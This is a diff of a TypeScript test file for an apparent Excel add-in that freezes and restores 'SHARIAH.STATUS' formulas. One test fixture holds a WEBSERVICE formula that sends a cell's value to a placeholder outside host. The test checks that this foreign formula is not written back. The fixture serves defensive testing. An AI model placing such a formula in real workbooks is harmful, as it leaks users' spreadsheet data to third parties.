@@ -64,6 +64,16 @@ async function open() {
         workbook.set("Sheet1", typed, 1, `=SHARIAH.STATUS(A${typed + 1})`);
       }
     },
+    insertRow: async () => {
+      workbook.insertRow("Sheet1", 0);
+      typed += 1;
+    },
+    formulasBack: async () => {
+      const cells = [...(workbook.sheets.get("Sheet1")?.cells ?? [])];
+      const isOwn = (place: string, formula?: string) =>
+        formula === `=SHARIAH.STATUS(A${Number.parseInt(place, 10) + 1})`;
+      return cells.filter(([place, { formula }]) => isOwn(place, formula)).length;
+    },
     close: () => service.close(),
     session,
     workbook,
@@ -295,31 +305,78 @@ describe("Excel's sheets", () => {
     await idle();
     const verdicts = column(1, 3);
     expect(column(3, 3)).toEqual(verdicts);
-    expect(await host.freezer.freeze("workbook", undefined)).toBe(6);
+    expect(await host.freezer.freeze("workbook", undefined)).toMatchObject({ cells: 6 });
     expect([column(1, 3), column(3, 3)]).toEqual([verdicts, verdicts]);
     const cells = [...(workbook.sheets.get("Sheet1")?.cells.values() ?? [])];
     expect(cells.filter(({ formula, from }) => formula ?? from)).toEqual([]);
     expect(workbook.sheets.get("shariah-sheets-frozen")?.visibility).toBe("VeryHidden");
     expect(await host.freezer.frozen()).toMatchObject([{ address: "Sheet1!B1:D3", cells: 6 }]);
     workbook.set("Sheet1", 1, 1, "mine");
-    expect(await host.freezer.thaw()).toBe(5);
+    expect(await host.freezer.thaw()).toMatchObject({ cells: 5, changed: 1 });
     await idle();
     expect([column(1, 3), column(3, 3)]).toEqual([[verdicts[0], "mine", verdicts[2]], verdicts]);
     workbook.set("Sheet1", 1, 1, verdicts[1]);
-    expect(await host.freezer.thaw()).toBe(1);
+    expect(await host.freezer.thaw()).toMatchObject({ cells: 1, changed: 0 });
     expect(workbook.sheets.has("shariah-sheets-frozen")).toBe(false);
+  });
+
+  test("what somebody typed into a frozen table keeps it as it is, until it is gone", async () => {
+    const { host, workbook } = bench;
+    await bench.type(3);
+    workbook.set("Sheet1", 0, 3, "=SHARIAH.STATUS(A1:A3)");
+    workbook.selected = [{ row: 0, column: 3, rows: 1, columnCount: 1 }];
+    await idle();
+    const verdicts = column(3, 3);
+    await host.freezer.freeze("selection", undefined);
+    workbook.set("Sheet1", 1, 3, "mine");
+    expect(await host.freezer.thaw()).toMatchObject({ formulas: 0, changed: 1 });
+    expect(column(3, 3)).toEqual([verdicts[0], "mine", verdicts[2]]);
+    workbook.set("Sheet1", 1, 3, verdicts[1]);
+    expect(await host.freezer.thaw()).toMatchObject({ cells: 3, changed: 0 });
+    await idle();
+    expect(column(3, 3)).toEqual(verdicts);
+  });
+
+  test("a formula that shows an error or nothing keeps it, and is counted", async () => {
+    const { host, workbook } = bench;
+    await bench.type(1);
+    workbook.set("Sheet1", 1, 1, '=SHARIAH.STATUS("NOSUCH")');
+    workbook.set("Sheet1", 2, 1, "=SHARIAH.STATUS(A9)");
+    await idle();
+    expect(await host.freezer.freeze("workbook", undefined)).toMatchObject({ cells: 1, unshown: 2 });
+    const formulas = [1, 2].map((row) => workbook.sheets.get("Sheet1")?.cells.get(`${row},1`)?.formula);
+    expect(formulas).toEqual(['=SHARIAH.STATUS("NOSUCH")', "=SHARIAH.STATUS(A9)"]);
+  });
+
+  test("a ledger of earlier versions thaws; what is no formula of ours is not written", async () => {
+    const { host, workbook, grid } = bench;
+    await bench.type(3);
+    await idle();
+    const verdicts = column(1, 3);
+    for (let row = 0; row < 3; row += 1) workbook.set("Sheet1", row, 1, verdicts[row]);
+    workbook.set("Sheet1", 0, 4, "x");
+    const entry = (place: readonly number[], formula: string, shows: unknown) =>
+      ["old", "1", "Ali", "Sheet1", ...place.map(String), formula, JSON.stringify(shows), "{1}"] as const;
+    await grid.keepLedger([
+      entry([0, 1, 3, 1], "=SHARIAH.STATUS(A1:A3)", verdicts[0]),
+      entry([0, 4, 1, 1], '=WEBSERVICE("https://elsewhere.example/?"&A1)', "x"),
+      entry([5, 5, 1, 1], "=SHARIAH.STATUS(A1)", "gone since"),
+    ]);
+    expect(await host.freezer.frozen()).toMatchObject([{ id: "old", by: "Ali", at: 1 }]);
+    expect(await host.freezer.thaw()).toMatchObject({ cells: 3, formulas: 1, foreign: 1, changed: 1 });
+    await idle();
+    expect(workbook.sheets.get("Sheet1")?.cells.get("0,1")?.formula).toBe("=SHARIAH.STATUS(A1:A3)");
+    expect([column(1, 3), workbook.get("Sheet1", 0, 4)]).toEqual([verdicts, "x"]);
   });
 
   test("a sheet that is renamed thaws as it would have before", async () => {
     const { host, workbook } = bench;
     await bench.type(2);
     await idle();
-    expect(await host.freezer.freeze("workbook", undefined)).toBe(2);
-    const sheet = workbook.sheets.get("Sheet1");
-    if (sheet) workbook.sheets.set("Sent in March", sheet);
-    workbook.sheets.delete("Sheet1");
+    expect(await host.freezer.freeze("workbook", undefined)).toMatchObject({ cells: 2 });
+    workbook.rename("Sheet1", "Sent in March");
     expect(await host.freezer.frozen()).toMatchObject([{ address: "'Sent in March'!B1:B2" }]);
-    expect(await host.freezer.thaw()).toBe(2);
+    expect(await host.freezer.thaw()).toMatchObject({ cells: 2 });
     expect(await host.freezer.frozen()).toEqual([]);
   });
 
@@ -327,14 +384,16 @@ describe("Excel's sheets", () => {
     const { host, workbook } = bench;
     await bench.type(2);
     await idle();
-    expect(await host.freezer.freeze("selection", "first")).toBe(2);
+    expect(await host.freezer.freeze("selection", "first")).toMatchObject({ cells: 2 });
     await bench.type(2);
     await idle();
     workbook.protected.add("Sheet1");
     await expect(host.freezer.freeze("workbook", "second")).rejects.toThrow("protected");
     expect((await host.freezer.frozen()).map(({ by }) => by)).toEqual(["first"]);
+    expect(workbook.hidden.size).toBe(2);
     workbook.protected.clear();
-    expect(await host.freezer.thaw()).toBe(2);
+    expect(await host.freezer.thaw()).toMatchObject({ cells: 2 });
+    expect([workbook.names.size, workbook.hidden.size]).toEqual([0, 0]);
   });
 
   test("cells that wait are not frozen as they stand", async () => {
